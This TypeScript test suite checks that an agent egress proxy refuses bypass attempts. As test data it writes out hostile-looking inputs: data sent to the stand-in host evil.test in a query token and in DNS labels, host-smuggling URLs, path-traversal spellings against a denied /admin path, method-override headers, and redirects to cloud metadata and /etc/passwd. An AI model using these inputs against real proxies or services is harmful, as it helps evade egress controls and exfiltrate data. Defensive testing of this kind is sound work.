import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { hostOf, registryHosts } from '../../src/policy/registries/catalogue.ts'
import { attackBench, type AttackBench } from '../helpers/attack-bench.ts'
import {
  expectAllowed,
  expectConnectRefused,
  expectRefused,
  expectRefusedInside,
} from '../helpers/attack-cases.ts'
import { captureHello } from '../helpers/client-hello.ts'
import { ok } from '../helpers/origin.ts'

describe('hosts, authorities and what a rule covers', () => {
  let bench: AttackBench
  let hellos: [string, Buffer][]

  beforeAll(async () => {
    hellos = [
      ['another name', await captureHello({ servername: 'evil.test' })],
      ['no name', await captureHello({})],
      ['no TLS', Buffer.from('SSH-2.0-x\r\n')],
      ['HTTP', Buffer.from('GET / HTTP/1.1\r\n\r\n')],
      ['garbage', Buffer.from([0x16, 0x03, 0x01, 0x00, 0x05, 0xff, 0xff, 0xff, 0xff, 0xff])],
    ]
    bench = await attackBench({
      allow: [
        '{ host: spliced.good.test, ports: [443], tls: splice, addresses: [127.0.0.0/8] }',
        '{ registry: npm, mode: install, addresses: [127.0.0.0/8] }',
        '{ host: "xn--bcher-kva.test", ports: [443] }',
        '{ host: fold.good.test, ports: [TLS], addresses: [127.0.0.0/8] }',
      ],
      edit: (yaml, { tls }) =>
        yaml
          .replaceAll('[TLS]', `[${tls}]`)
          .replace(
            'deny: [{ host: blocked.wild.test }]',
            'deny: [{ host: blocked.wild.test }, { host: fold.good.test, paths: ["/admin/**"] }]',
          ),
      onRequest: ({ head, body, socket }) => {
        const to = /^GET \/redirect\?to=(\S+)/.exec(head)?.[1]
        if (to !== undefined)
          socket.write(`HTTP/1.1 302 Found\r\nLocation: ${to}\r\nContent-Length: 0\r\n\r\n`)
        else if (head.startsWith('GET /switch'))
          socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\nraw')
        else socket.write(ok(`${head}${body}`))
      },
    })
  })
  afterEach(() => bench.standing())
  afterAll(() => bench.stop())

  const connect = (authority: string, status: number, reason: string) =>
    expectConnectRefused(bench, authority, { status, reason })
  const get = (target: string, status: number, reason: string, host = 'plain.good.test') =>
    expectRefused(bench, `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`, { status, reason })
  const at = (host: string) => bench.at(host)
  const inside = (host: string, line = 'GET /', fields = ''): string =>
    `${line} HTTP/1.1\r\nHost: ${at(host)}\r\n${fields}\r\n`

  describe('default deny', () => {
    it('A021: a sandbox without rules reaches nothing, by CONNECT or in cleartext', async () => {
      for (const authority of [at('api.good.test'), 'evil.test:443', '93.184.216.34:443', 'localhost:443']) {
        await expectConnectRefused(bench, authority, { status: 403, reason: 'host_denied', sandbox: 's3' })
      }
      for (const target of [
        `${bench.url('plain.good.test')}/`,
        'http://evil.test/',
        'https://api.good.test/',
      ]) {
        const host = target.slice(target.indexOf('//') + 2, -1)
        await expectRefused(bench, `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`, {
          status: 403,
          reason: 'host_denied',
          sandbox: 's3',
        })
      }
    })

    it('A022, B025: a cleartext request to a host without a rule is 403, and its query is logged nowhere', async () => {
      bench.guard('query', 'query-canary-3Fz81nQ')
      const response = await get(
        'http://evil.test/log?token=query-canary-3Fz81nQ',
        403,
        'host_denied',
        'evil.test',
      )
      expect(response.body).not.toContain('/log')
      await get('http://evil.test/log?d=query-canary-3Fz81nQ', 421, 'authority_mismatch')
    })

    it('A023: names that carry data are refused one by one without a lookup', async () => {
      for (let i = 0; i < 10; i++) {
        await connect(`${i.toString(16).padStart(32, 'c0ffee')}.evil.test:443`, 403, 'host_denied')
      }
    })

    it('A102, A023: the answer to a denied CONNECT comes instead of the 200 and can be acted on', async () => {
      const response = await connect('evil.test:443', 403, 'host_denied')
      expect(response.statusLine).toMatch(
        /^HTTP\/1\.1 403 octroi host_denied evil\.test:443 id=[0-9A-Z]{26}$/,
      )
      expect(response.fields).toMatchObject({
        'content-type': 'application/problem+json',
        'proxy-status': expect.stringContaining('http_request_denied') as string,
      })
      expect(JSON.parse(response.body)).toMatchObject({
        type: 'urn:octroi:host_denied',
        status: 403,
        reason: 'host_denied',
        destination: 'evil.test:443',
        retry: 'never',
      })
    })
  })

  describe('one spelling for one host', () => {
    it('A024: a trailing dot neither escapes a deny rule nor interception', async () => {
      await connect(`blocked.wild.test.:${bench.upstream.port}`, 403, 'host_denied')
      const client = await bench.tunnel('s1', `api.good.test.:${bench.upstream.port}`, 'api.good.test')
      const { event } = await expectAllowed(bench, client, inside('api.good.test', 'GET /v1/dot'))
      expect(event).toMatchObject({ host: 'api.good.test', access: 'api', tls: { mode: 'terminate' } })
    })

    it('A026: upper case is folded before policy, in the event, the leaf and the request', async () => {
      await connect(`BLOCKED.Wild.TEST:${bench.upstream.port}`, 403, 'host_denied')
      const client = await bench.tunnel('s1', `API.Good.Test:${bench.upstream.port}`, 'api.good.test')
      const { event, received } = await expectAllowed(
        bench,
        client,
        `GET /v1/a HTTP/1.1\r\nHost: API.GOOD.TEST:${bench.upstream.port}\r\n\r\n`,
      )
      expect(event.host).toBe('api.good.test')
      expect(received).toContain(`Host: api.good.test:${bench.upstream.port}\r\n`)
    })

    it('A027: brackets are for IPv6 only', async () => {
      await connect(`[blocked.wild.test]:${bench.upstream.port}`, 400, 'malformed')
      await get('http://[blocked.wild.test]/', 400, 'malformed')
      await get(`${bench.url('plain.good.test')}/`, 400, 'malformed', '[api.good.test]')
    })

    it('A028, B031: names that look like an allowed one, and the apex of a wildcard, are denied', async () => {
      const names = [
        'evilwild.test',
        'api.good.test.evil.test',
        'notapi.good.test',
        'wild.test',
        'wild.test.evil.test',
      ]
      for (const name of names) await connect(at(name), 403, 'host_denied')
      for (const name of ['.wild.test', 'a..wild.test', '..wild.test'])
        await connect(at(name), 400, 'malformed')
      const client = await bench.tunnel('s1', 'b.wild.test')
      await expectAllowed(bench, client, inside('b.wild.test'))
    })

    it('A030, A032: control characters and blanks in a host are 400, in CONNECT and in Host', async () => {
      const hosts = ['\0', '\t', ' ', '\x7f', '\x0b', '\x85', '%00', '%2e', '\\'].flatMap((odd) => [
        `evil.test${odd}.wild.test`,
        `api.good.test${odd}`,
      ])
      for (const host of hosts) {
        const mark = bench.mark()
        const { response, client } = await bench.ask(
          's1',
          `CONNECT ${host}:443 HTTP/1.1\r\nHost: api.good.test:443\r\n\r\n`,
        )
        expect([host, response.status]).toEqual([host, 400])
        await client.closed()
        expect((await mark.decisions(1))[0]).toMatchObject({ verdict: 'deny', reason: 'malformed' })
        mark.nothingLeft()
      }
      for (const host of hosts.filter((name) => !/^api\.good\.test[\t ]$/.test(name))) {
        await get(`${bench.url('plain.good.test')}/`, 400, 'malformed', host)
      }
    })

    it('A034: user information, backslash and fragment cannot move the host', async () => {
      const targets = [
        'http://api.good.test@evil.test/',
        'http://api.good.test:443@evil.test/',
        'http://evil.test\\@api.good.test/',
        'http://evil.test#@api.good.test/',
        'http://plain.good.test#@evil.test/',
      ]
      for (const target of targets) await get(target, 400, 'malformed')
    })

    it('A035: targets that only lenient parsers read as URLs are 400', async () => {
      const targets = [
        'http:\\\\evil.test\\',
        'http:/\\evil.test',
        'http:///evil.test/',
        '//evil.test/',
        'http:plain.good.test',
        'http:/plain.good.test/',
        'evil.test',
        'http://',
        'http://?x',
        ' http://plain.good.test/',
      ]
      for (const target of targets) await get(target, 400, 'malformed')
    })

    it('A036, B033: raw non-ASCII in a target is 400', async () => {
      const utf8 = (text: string): string => Buffer.from(text).toString('latin1')
      const hosts = [
        'blocked\u3002wild\u3002test',
        '\uff42locked.wild.test',
        'bl\u00adocked.wild.test',
        '\u24d1locked.wild.test',
        '127\u30020\u30020\u30021',
        '\u212aelvin.wild.test',
      ]
      for (const host of hosts) {
        await connect(`${utf8(host)}:443`, 400, 'malformed')
        await get(`http://${utf8(host)}/`, 400, 'malformed')
      }
    })

    it('A038, B033: a look-alike in its xn-- form is another name, and is shown in that form', async () => {
      const response = await connect('xn--pi-7sb.good.test:443', 403, 'host_denied')
      expect(response.body).toContain('xn--pi-7sb.good.test:443')
    })

    it('A039, B039: only the port of the rule is open, and odd ports are 400', async () => {
      for (const port of [22, 25, 6379, 8443]) await connect(`api.good.test:${port}`, 403, 'port_denied')
      for (const port of ['0', '65536', '-1', '443x', '+443', '00443', '', '0x1bb', '４４３']) {
        await connect(`api.good.test:${Buffer.from(port).toString('latin1')}`, 400, 'malformed')
      }
      await connect('api.good.test', 400, 'malformed')
      await connect('api.good.test: 443', 400, 'malformed')
    })
  })

  describe('one name for the whole tunnel', () => {
    it('A041, B027: a Host that differs from the name of the tunnel is 421 and nothing reaches the upstream', async () => {
      for (const host of [
        at('evil.cdn.test'),
        'good.cdn.test',
        `good.cdn.test:${bench.upstream.port + 1}`,
        at('api.good.test'),
      ]) {
        const client = await bench.tunnel('s1', 'good.cdn.test')
        const request = `GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`
        const event = await expectRefusedInside(bench, client, {
          request,
          status: 421,
          reason: 'authority_mismatch',
        })
        expect(event.host).toBe('good.cdn.test')
      }
    })

    it('A042: a server name that differs from the CONNECT name gets no leaf of its own and no request through', async () => {
      const mark = bench.mark()
      const { client, response } = await bench.connect('s1', at('good.cdn.test'))
      expect(response.status).toBe(200)
      let leaf = ''
      const options = {
        servername: 'evil.cdn.test',
        ca: bench.broker.ca,
        checkServerIdentity: (_: string, cert: { subjectaltname?: string }) =>
          void (leaf = cert.subjectaltname ?? ''),
      }
      const tls = await client.startTls(options)
      tls.write(inside('evil.cdn.test'))
      expect((await tls.response()).status).toBe(421)
      await tls.closed()
      expect(leaf).toBe('DNS:good.cdn.test')
      const [event] = await mark.decisions(1)
      expect(event).toMatchObject({
        agent: 'a1',
        verdict: 'deny',
        reason: 'authority_mismatch',
        host: 'good.cdn.test',
      })
      expect(mark.upstream()).toBe('')
    })

    it('B027: a good request does not vouch for the next one, and two Host lines are 400', async () => {
      const client = await bench.tunnel('s1', 'good.cdn.test')
      await expectAllowed(bench, client, inside('good.cdn.test'))
      await expectRefusedInside(bench, client, {
        request: inside('evil.cdn.test'),
        status: 421,
        reason: 'authority_mismatch',
      })
      for (const second of [at('good.cdn.test'), at('evil.cdn.test')]) {
        const again = await bench.tunnel('s1', 'good.cdn.test')
        const request = inside('good.cdn.test', 'GET /', `Host: ${second}\r\n`)
        await expectRefusedInside(bench, again, { request, status: 400, reason: 'malformed' })
      }
      const absolute = await bench.tunnel('s1', 'good.cdn.test')
      const request = inside('good.cdn.test', `GET https://${at('evil.cdn.test')}/`)
      await expectRefusedInside(bench, absolute, { request, status: 421, reason: 'authority_mismatch' })
    })

    it('A045: in cleartext the URI decides, and another Host is 421', async () => {
      const mark = bench.mark()
      const first = await bench.ask(
        's1',
        `GET ${bench.url('plain.good.test')}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n`,
      )
      expect(first.response.statusLine).toContain(` authority_mismatch plain.good.test:${bench.plain.port} `)
      expect((await mark.decisions(1))[0]).toMatchObject({
        agent: 'a1',
        host: 'plain.good.test',
        port: bench.plain.port,
      })
      await expectRefused(bench, `GET ${bench.url('plain.good.test')}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n`, {
        status: 421,
        reason: 'authority_mismatch',
      })
      await expectRefused(bench, `GET http://evil.test/ HTTP/1.1\r\nHost: plain.good.test\r\n\r\n`, {
        status: 421,
        reason: 'authority_mismatch',
      })
    })

    it('a CONNECT whose Host names another destination is 421, and its event names the one it asked for', async () => {
      const mark = bench.mark()
      const asked = await bench.ask('s1', 'CONNECT api.good.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n')
      expect(asked.response.statusLine).toMatch(
        /^HTTP\/1\.1 421 octroi authority_mismatch api\.good\.test:443 id=/,
      )
      expect((await mark.decisions(1))[0]).toMatchObject({ agent: 'a1', host: 'api.good.test', port: 443 })
    })

    it('B029: a spliced tunnel is cut before one byte for another name, none, ECH or no TLS', async () => {
      const splice = await spliceTarget()
      for (const [what, bytes] of hellos) {
        const mark = bench.mark()
        const { client, response } = await bench.connect('s1', splice.authority)
        expect(response.status).toBe(200)
        client.write(bytes)
        await client.closed()
        const [event] = await mark.decisions(1)
        const reason = what === 'another name' || what === 'no name' ? 'authority_mismatch' : 'non_tls'
        expect([what, event]).toMatchObject([
          what,
          { agent: 'a1', verdict: 'deny', reason, tls: { mode: 'opaque' } },
        ])
        expect([what, mark.upstream()]).toEqual([what, ''])
        expect([what, client.text]).toEqual([what, ''])
      }
      await splice.close()
    })

    /** The rule is for 443, which nothing may have to listen on: its port is moved by a reload. */
    const spliceTarget = async (): Promise<{ authority: string; close(): Promise<void> }> => {
      const before = await bench.config()
      await bench.broker.reconfigure(
        before.replace(
          'spliced.good.test, ports: [443]',
          `spliced.good.test, ports: [${bench.upstream.port}]`,
        ),
      )
      return { authority: at('spliced.good.test'), close: () => bench.broker.reconfigure(before) }
    }

    it('a spliced tunnel relays the right name unread and the event says so', async () => {
      const splice = await spliceTarget()
      const mark = bench.mark()
      const { client } = await bench.connect('s1', splice.authority)
      const tls = await client.startTls({ servername: 'spliced.good.test', ca: bench.ca.cert })
      tls.write('GET /x HTTP/1.1\r\nHost: spliced.good.test\r\n\r\n')
      expect((await tls.response()).status).toBe(200)
      tls.end()
      const [event] = await mark.decisions(1)
      expect(event).toMatchObject({ agent: 'a1', verdict: 'allow', reason: 'rule', tls: { mode: 'opaque' } })
      expect(event?.bytes_up).toBeGreaterThan(0)
      await splice.close()
    })

    it('A049, B039: what is not TLS after the 200 is closed without a byte upstream', async () => {
      const openings = [
        'SSH-2.0-x\r\n',
        'GET / HTTP/1.1\r\nHost: api.good.test\r\n\r\n',
        'EHLO x\r\n',
        '\0\0\0\0',
        '\x16\x03',
      ]
      for (const opening of openings) {
        const mark = bench.mark()
        const { client, response } = await bench.connect('s1', at('api.good.test'))
        expect(response.status).toBe(200)
        client.write(opening)
        if (opening === '\x16\x03') client.end()
        const text = await client.closed()
        if (opening.startsWith('GET')) expect(text).toMatch(/^HTTP\/1\.1 403 octroi non_tls /)
        else
          expect([opening, text]).toEqual([
            opening,
            expect.stringMatching(/^(HTTP\/1\.1 403 octroi non_tls |$)/),
          ])
        const [event] = await mark.decisions(1)
        if (opening !== '\x16\x03')
          expect([opening, event]).toMatchObject([
            opening,
            { agent: 'a1', verdict: 'deny', reason: 'non_tls' },
          ])
        expect(mark.upstream() + mark.dials().join()).toBe('')
      }
    })

    it('A050: a CONNECT inside a tunnel is 405 and dials nothing', async () => {
      const client = await bench.tunnel('s1', 'good.cdn.test')
      const request = `CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n`
      const mark = bench.mark()
      client.write(request)
      expect([400, 405, 421]).toContain((await client.response()).status)
      expect((await mark.decisions(1))[0]).toMatchObject({
        agent: 'a1',
        verdict: 'deny',
        host: 'good.cdn.test',
      })
      mark.nothingLeft()
      const again = await bench.tunnel('s1', 'good.cdn.test')
      await expectRefusedInside(bench, again, {
        request: inside('good.cdn.test', `CONNECT /`),
        status: 405,
        reason: 'method_unsupported',
      })
    })

    it('A051: the broker is no destination of its own proxy, by name or address, and a relayed CONNECT is judged alike', async () => {
      for (const port of [bench.broker.port, bench.broker.adminPort]) {
        const before = await bench.config()
        await bench.broker.reconfigure(
          before.replace(
            'deny: [{ host: blocked',
            `  - { host: any, ports: [${port}], addresses: [127.0.0.0/8, "::/96"] }\n    deny: [{ host: blocked`,
          ),
        )
        bench.names.set('localhost', () => ['127.0.0.1', '::1'])
        for (const host of ['127.0.0.1', '[::ffff:127.0.0.1]', '0.0.0.0', 'me.good.test', 'localhost']) {
          const mark = bench.mark()
          const { response, client } = await bench.connect('s1', `${host}:${port}`)
          expect([host, response.statusLine]).toEqual([
            host,
            expect.stringMatching(/^HTTP\/1\.1 403 octroi (self|ip_denied|host_denied) /),
          ])
          client.destroy()
          const [event] = await mark.decisions(1)
          expect(event).toMatchObject({ verdict: 'deny', agent: 'a1' })
          expect(mark.dials()).toEqual([])
        }
        await bench.broker.reconfigure(before)
      }
    })
  })

  describe('methods, paths and upgrades', () => {
    it('A052: a registry rule installs and cannot publish', async () => {
      const host = hostOf(registryHosts('npm')[0]?.labels ?? [])
      bench.names.set(host, () => ['127.0.0.9'])
      bench.mayDial.add('127.0.0.9:443')
      const client = await bench.tunnel('s1', `${host}:443`)
      const writes = [
        'PUT /pkg',
        'DELETE /pkg/-rev/1',
        'POST /-/npm/v1/security/audits',
        'PUT /-/user/org.couchdb.user:x',
      ]
      for (const line of writes) {
        const request = `${line} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 2\r\n\r\n{}`
        await expectRefusedInside(bench, client, { request, status: 403, reason: 'method_denied' })
      }
      for (const path of ['/pkg', '/pkg/-/pkg-1.0.0.tgz']) {
        const mark = bench.mark()
        const reading = await bench.tunnel('s1', `${host}:443`)
        reading.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
        await reading.response()
        await mark.decisions(1)
        expect(mark.dials()).toEqual(['127.0.0.9:443'])
      }
    })

    it('A052, A166: methods and paths outside a rule are refused, in every spelling of the path', async () => {
      const client = await bench.tunnel('s1', 'read.good.test')
      await expectAllowed(bench, client, inside('read.good.test', 'GET /v1/a%2Db?x=/../admin'))
      const denied: [string, string][] = [
        ['DELETE /v1/x', 'method_denied'],
        ['GET /admin', 'path_denied'],
        ['GET /V1/x', 'path_denied'],
        ['GET /v1x', 'path_denied'],
        ['GET //v1/x', 'path_denied'],
        ['POST /repos/o/r/issues', 'path_denied'],
      ]
      for (const [line, reason] of denied) {
        await expectRefusedInside(bench, client, {
          request: inside('read.good.test', line),
          status: 403,
          reason,
        })
      }
    })

    it('a path that two readers could resolve differently is 400 where paths are judged', async () => {
      const paths = [
        '/v1/../admin',
        '/v1/%2e%2e/admin',
        '/v1/.%2E/admin',
        '/v1/%2Fadmin',
        '/v1/%5cadmin',
        '/v1/\\..\\admin',
        '/v1/%00',
        '/v1/%zz',
        '/v1/%',
        '/v1/%252e%252e/admin',
        '/v1/./x',
      ]
      for (const path of paths) {
        const client = await bench.tunnel('s1', 'read.good.test')
        await expectRefusedInside(bench, client, {
          request: inside('read.good.test', `GET ${path}`),
          status: 400,
          reason: 'malformed',
        })
      }
    })

    it('a path that is denied stays denied in every spelling that an upstream could fold', async () => {
      const client = await bench.tunnel('s1', 'fold.good.test')
      await expectAllowed(bench, client, inside('fold.good.test', 'GET /administrator'))
      const spellings = [
        '/admin',
        '/admin/',
        '/admin/x',
        '/ADMIN/x',
        '/Admin',
        '/%61dmin/x',
        '/%2561dmin/x',
        '/admin;v=1/x',
        '/admin;',
        '/;a/admin/x',
        '//admin/x',
        '/./admin/x',
        '/x/../admin/x',
        '/x/%2e%2e/admin',
        '/admin%2fx',
        '/admin%2Fx',
        '/admin\\x',
        '/x/..;/admin/x',
        '/admin%00',
        '/admin?x',
        '/%41DMIN',
        '/admin/.',
        '/admin%3bx',
        '/ad%6Din/..',
      ]
      for (const path of spellings) {
        const mark = bench.mark()
        const own = await bench.tunnel('s1', 'fold.good.test')
        own.write(inside('fold.good.test', `GET ${path}`))
        const { status } = await own.response()
        own.destroy()
        expect([path, [400, 403].includes(status), mark.upstream()]).toEqual([path, true, ''])
        expect((await mark.decisions(1))[0]).toMatchObject({ agent: 'a1', verdict: 'deny' })
      }
    })

    it('A054: override fields are taken off, and odd methods are refused', async () => {
      const client = await bench.tunnel('s1', 'read.good.test')
      const overrides =
        'X-HTTP-Method-Override: DELETE\r\nX-HTTP-Method: DELETE\r\nX-Method-Override: DELETE\r\nX_HTTP_Method_Override: DELETE\r\nX-Original-URL: /DELETE\r\nX-Rewrite-URL: /DELETE\r\n'
      const { received } = await expectAllowed(
        bench,
        client,
        inside('read.good.test', 'POST /v1/x?_method=DELETE', `${overrides}Content-Length: 0\r\n`),
      )
      expect(received.split('\r\n').slice(1).join('\n')).not.toContain('DELETE')
      const odd: [string, number, string][] = [
        ['GeT', 501, 'method_unsupported'],
        ['get', 501, 'method_unsupported'],
        ['connect', 501, 'method_unsupported'],
        ['GET\x0b', 400, 'malformed'],
        ['M'.repeat(200), 400, 'malformed'],
        ['TRACE', 405, 'method_unsupported'],
        ['PROPFIND', 403, 'method_denied'],
      ]
      for (const [method, status, reason] of odd) {
        const again = await bench.tunnel('s1', 'read.good.test')
        const mark = bench.mark()
        again.write(inside('read.good.test', `${method} /v1/x`))
        expect([method, (await again.response()).status]).toEqual([method, status])
        expect((await mark.decisions(1))[0]).toMatchObject({ agent: 'a1', verdict: 'deny', reason })
        expect(mark.upstream()).toBe('')
        again.destroy()
      }
    })

    it('A056: an upgrade is judged like a plain request, and is refused in words where it would be allowed', async () => {
      const upgrade =
        'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n'
      const client = await bench.tunnel('s1', 'free.good.test')
      const event = await expectRefusedInside(bench, client, {
        request: inside('free.good.test', 'GET /ws', upgrade),
        status: 501,
        reason: 'method_unsupported',
      })
      expect(event.host).toBe('free.good.test')
      const mark = bench.mark()
      const { response } = await bench.ask(
        's1',
        `GET http://evil.test/ws HTTP/1.1\r\nHost: evil.test\r\n${upgrade}\r\n`,
      )
      expect([403, 501]).toContain(response.status)
      await mark.decisions(1)
      mark.nothingLeft()
    })

    it('A057: a 101 nobody asked for never becomes a tunnel', async () => {
      const client = await bench.tunnel('s1', 'free.good.test')
      const mark = bench.mark()
      client.write(inside('free.good.test', 'GET /switch'))
      const response = await client.response()
      expect(response.statusLine).toMatch(/^HTTP\/1\.1 502 octroi upstream_failed /)
      expect(response.raw).not.toContain('raw')
      expect((await mark.decisions(1))[0]).toMatchObject({
        agent: 'a1',
        reason: 'upstream_failed',
        status: 502,
      })
    })

    it('A058: neither h2c nor the HTTP/2 preface switches the connection', async () => {
      const mark = bench.mark()
      const { response } = await bench.ask(
        's1',
        `GET ${bench.url('plain.good.test')}/ HTTP/1.1\r\nHost: plain.good.test:${bench.plain.port}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n`,
      )
      expect(response.status).toBe(200)
      expect(mark.plain()).not.toMatch(/upgrade|http2/i)
      const preface = await bench.client()
      preface.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
      expect((await preface.response()).status).toBe(505)
      await preface.closed()
      await mark.decisions(2)
    })

    it('A059, B037: a redirect is passed on, never followed, and the follow-up is judged like any request', async () => {
      const client = await bench.tunnel('s1', 'free.good.test')
      for (const to of ['http://169.254.169.254/', 'https://evil.test/', 'file:///etc/passwd']) {
        const mark = bench.mark()
        client.write(inside('free.good.test', `GET /redirect?to=${to}`))
        const response = await client.response()
        expect(response).toMatchObject({ status: 302, fields: { location: to } })
        await mark.decisions(1)
        expect(new Set(mark.dials())).toEqual(
          new Set(mark.dials().filter((dial) => dial.endsWith(`:${bench.upstream.port}`))),
        )
        expect(mark.upstream().match(/ HTTP\/1\.1\r\n/g)).toHaveLength(1)
      }
      await get('http://169.254.169.254/', 403, 'metadata_denied', '169.254.169.254')
      await get('http://evil.test/', 403, 'host_denied', 'evil.test')
    })

    it('B001: cleartext HTTP in a tunnel is judged like absolute-form, and only where a rule has http', async () => {
      const { client, response } = await bench.connect('s1', `plain.good.test:${bench.plain.port}`)
      expect(response.status).toBe(200)
      const host = `plain.good.test:${bench.plain.port}`
      const { received, event } = await expectAllowed(
        bench,
        client,
        `GET /x HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      )
      expect(received).toBe(`GET /x HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
      expect(event).toMatchObject({ agent: 'a1', scheme: 'http', path: '/x' })
      const mark = bench.mark()
      client.write(`GET /x HTTP/1.1\r\nHost: evil.test\r\n\r\n`)
      expect((await client.response()).status).toBe(421)
      await mark.decisions(1)
      expect(mark.plain()).toBe('')
    })
  })
})
